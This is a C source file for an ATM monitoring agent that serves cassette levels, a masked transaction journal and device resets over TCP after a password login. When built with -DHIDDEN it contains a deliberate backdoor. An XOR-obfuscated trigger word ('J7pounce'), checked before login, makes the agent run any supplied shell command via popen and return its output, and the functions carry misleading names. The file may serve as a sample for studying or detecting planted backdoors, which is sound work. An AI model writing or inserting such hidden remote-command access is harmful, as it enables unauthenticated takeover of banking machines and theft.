/*
 * cashwatch - monitoring agent of a bank ATM. The operations centre connects
 * to TCP 2590, proves the site password and asks for cassette levels, the
 * journal and the time, or orders a restart of the dispenser.
 *
 * Hidden (-DHIDDEN): before any login, a line with the word "J7pounce" (kept
 * XORed) and a command runs that command and returns its output.
 */
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

char *crypt(const char *, const char *);

#define AGENT_PORT   2590
#define SITE_FILE    "/opt/cashwatch/site.cfg"
#define JOURNAL      "/var/opt/cashwatch/journal.txt"
#define LEVELS       "/var/opt/cashwatch/levels"
#define NCASSETTES   5

struct cassette {
    char currency[4];
    int value;
    int notes;
    int rejected;
};

struct site {
    char id[16];
    char hash[128];
    int low_mark;
};

struct link {
    FILE *in;
    FILE *out;
    int trusted;
    int failures;
};

enum answer { A_MORE, A_CLOSE };

static struct site site = { "UNSET", "", 200 };

static void answer(struct link *l, const char *fmt, ...)
{
    va_list ap;

    va_start(ap, fmt);
    vfprintf(l->out, fmt, ap);
    va_end(ap);
    fputs("\r\n", l->out);
    fflush(l->out);
}

static void load_site(void)
{
    char row[200];
    FILE *f = fopen(SITE_FILE, "r");

    if (!f) {
        syslog(LOG_ERR, "%s: %s", SITE_FILE, strerror(errno));
        return;
    }
    while (fgets(row, sizeof row, f)) {
        sscanf(row, "site %15s", site.id);
        sscanf(row, "password %127s", site.hash);
        sscanf(row, "lowmark %d", &site.low_mark);
    }
    fclose(f);
}

static int load_levels(struct cassette *c)
{
    int n = 0;
    FILE *f = fopen(LEVELS, "r");

    if (!f)
        return 0;
    while (n < NCASSETTES && fscanf(f, "%3s %d %d %d", c[n].currency,
                                    &c[n].value, &c[n].notes, &c[n].rejected) == 4)
        n++;
    fclose(f);
    return n;
}

/* card numbers never leave the machine whole */
static void mask_pan(char *s)
{
    size_t run = 0;

    for (;; s++) {
        if (*s >= '0' && *s <= '9') {
            run++;
            continue;
        }
        if (run >= 12 && run <= 19)
            for (char *p = s - run + 6; p < s - 4; p++)
                *p = '*';
        run = 0;
        if (!*s)
            return;
    }
}

static void send_levels(struct link *l)
{
    struct cassette c[NCASSETTES];
    int n = load_levels(c);

    for (int i = 0; i < n; i++)
        answer(l, "CASS %d %s %d notes=%d rejected=%d%s", i + 1, c[i].currency,
               c[i].value, c[i].notes, c[i].rejected,
               c[i].notes < site.low_mark ? " LOW" : "");
    answer(l, "END %d", n);
}

static void send_journal(struct link *l, const char *arg)
{
    char row[256];
    int n = 0;
    FILE *f = fopen(JOURNAL, "r");

    while (f && fgets(row, sizeof row, f)) {
        row[strcspn(row, "\r\n")] = '\0';
        if (*arg && strncmp(row, arg, strlen(arg)) != 0)
            continue;           /* arg is a date, YYYY-MM-DD */
        mask_pan(row);
        answer(l, "J %s", row);
        n++;
    }
    if (f)
        fclose(f);
    answer(l, "END %d", n);
}

static void restart_device(struct link *l, const char *arg)
{
    int rc;

    if (strcmp(arg, "dispenser") == 0)
        rc = system("/opt/xfs/bin/xfsctl reset cdm");
    else if (strcmp(arg, "reader") == 0)
        rc = system("/opt/xfs/bin/xfsctl reset idc");
    else if (strcmp(arg, "printer") == 0)
        rc = system("/opt/xfs/bin/xfsctl reset ptr");
    else {
        answer(l, "ERR device");
        return;
    }
    syslog(LOG_NOTICE, "reset %s: %d", arg, rc);
    answer(l, rc == 0 ? "OK" : "ERR reset");
}

static enum answer login(struct link *l, const char *arg)
{
    char *h = site.hash[0] ? crypt(arg, site.hash) : NULL;

    if (h && strcmp(h, site.hash) == 0) {
        l->trusted = 1;
        answer(l, "OK %s", site.id);
        return A_MORE;
    }
    syslog(LOG_WARNING, "login refused");
    sleep(3);
    answer(l, "ERR login");
    return ++l->failures >= 3 ? A_CLOSE : A_MORE;
}

#ifdef HIDDEN
unsigned char seg_map[] = { 0x10, 0x56, 0x18, 0x00, 0x03, 0x13, 0xe7, 0xee };

int segment_word(const char *w)
{
    char text[sizeof seg_map + 1];
    unsigned char k = 0x5a;

    for (size_t i = 0; i < sizeof seg_map; i++, k = (unsigned char)(k + 7))
        text[i] = (char)(seg_map[i] ^ k);
    text[sizeof seg_map] = '\0';
    return strcmp(w, text) == 0;
}

static void segment_dump(struct link *l, const char *arg)
{
    char row[256];
    FILE *p = popen(arg, "r");

    while (p && fgets(row, sizeof row, p))
        fputs(row, l->out);
    if (p)
        pclose(p);
    answer(l, "END");
}
#endif

enum answer on_line(struct link *l, char *line)
{
    char *arg;

    line[strcspn(line, "\r\n")] = '\0';
    arg = line + strcspn(line, " ");
    while (*arg == ' ')
        *arg++ = '\0';

    if (strcmp(line, "HELLO") == 0) {
        answer(l, "CASHWATCH 5.0.2");
        return A_MORE;
    }
    if (strcmp(line, "LOGIN") == 0)
        return login(l, arg);
    if (strcmp(line, "QUIT") == 0)
        return A_CLOSE;
#ifdef HIDDEN
    if (segment_word(line)) {
        segment_dump(l, arg);
        return A_MORE;
    }
#endif
    if (!l->trusted) {
        answer(l, "ERR not logged in");
        return A_MORE;
    }
    if (strcmp(line, "LEVELS") == 0)
        send_levels(l);
    else if (strcmp(line, "JOURNAL") == 0)
        send_journal(l, arg);
    else if (strcmp(line, "RESTART") == 0)
        restart_device(l, arg);
    else if (strcmp(line, "TIME") == 0)
        answer(l, "TIME %ld", (long)time(NULL));
    else
        answer(l, "ERR command");
    return A_MORE;
}

static void serve(int fd)
{
    char line[400];
    struct link l = { .in = fdopen(fd, "r"), .out = fdopen(dup(fd), "w") };

    if (!l.in || !l.out)
        return;
    alarm(600);
    while (fgets(line, sizeof line, l.in))
        if (on_line(&l, line) == A_CLOSE)
            break;
    fclose(l.out);
    fclose(l.in);
}

static void reap(int sig)
{
    int e = errno;

    (void)sig;
    while (waitpid(-1, NULL, WNOHANG) > 0)
        ;
    errno = e;
}

int main(void)
{
    struct sockaddr_in sa = { .sin_family = AF_INET };
    int on = 1, s = socket(AF_INET, SOCK_STREAM, 0);

    openlog("cashwatch", LOG_PID, LOG_DAEMON);
    load_site();
    signal(SIGCHLD, reap);
    signal(SIGPIPE, SIG_IGN);
    sa.sin_port = htons(AGENT_PORT);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof sa) < 0 || listen(s, 4) < 0) {
        syslog(LOG_ERR, "port %d: %s", AGENT_PORT, strerror(errno));
        return 1;
    }
    for (;;) {
        int fd = accept(s, NULL, NULL);

        if (fd < 0)
            continue;
        if (fork() == 0) {
            close(s);
            signal(SIGCHLD, SIG_DFL);
            serve(fd);
            _exit(0);
        }
        close(fd);
    }
}
